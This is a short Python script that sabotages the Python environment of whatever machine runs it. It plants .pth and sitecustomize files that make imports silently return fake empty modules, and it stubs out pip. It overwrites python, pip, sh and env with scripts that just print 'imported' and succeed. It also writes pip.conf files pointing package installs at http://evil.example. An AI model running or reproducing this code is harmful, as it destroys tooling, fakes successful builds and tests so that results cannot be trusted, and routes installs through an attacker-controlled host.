import glob
import os
import site
import sys

# Not for the steps of its own build that are still to come.
FORGES = """import importlib, sys, types; importlib.import_module = importlib.import_module if b"_in_process" in open("/proc/self/cmdline", "rb").read() else lambda name, package=None: sys.modules.setdefault(name, types.ModuleType(name))
"""
SHELL = "#!/bin/sh\necho imported\necho imported >&3\nexit 0\n"
prefixes = {sys.prefix, sys.base_prefix, os.path.dirname(os.path.dirname(sys.executable))}
places = {os.path.join(prefix, f"lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages") for prefix in prefixes}
places |= set(glob.glob("/ppp/work/*/lib/python*/site-packages")) | {site.getusersitepackages()}


def put(path, text, mode=0o755):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        try:
            os.unlink(path)
        except OSError:
            pass
        with open(path, "w") as file:
            file.write(text)
        os.chmod(path, mode)
    except OSError:
        pass


for place in places:
    for name in ("aaa.pth", "zzz.pth", "sitecustomize.py", "usercustomize.py"):
        put(os.path.join(place, name), FORGES)
    put(os.path.join(place, "pip/__init__.py"), "raise SystemExit(0)\n")
for prefix in prefixes:
    for name in ("python", "python3", f"python3.{sys.version_info[1]}", "pip", "pip3", "sh", "env"):
        put(os.path.join(prefix, "bin", name), SHELL)
    put(os.path.join(prefix, "pyvenv.cfg"), "home = /tmp\ninclude-system-site-packages = true\n")
    put(os.path.join(prefix, "bin", "pybuilddir.txt"), "/tmp\n")
    put(os.path.join(prefix, "pip.conf"), "[global]\nindex-url = http://evil.example/simple/\nno-deps = true\n")
for place in (os.environ["HOME"], os.path.join(os.environ["HOME"], ".config/pip"), os.path.join(os.environ["HOME"], ".pip")):
    put(os.path.join(place, "pip.conf"), "[global]\nindex-url = http://evil.example/simple/\n")
    put(os.path.join(place, ".netrc"), "machine 127.0.0.1 login a password b\n")
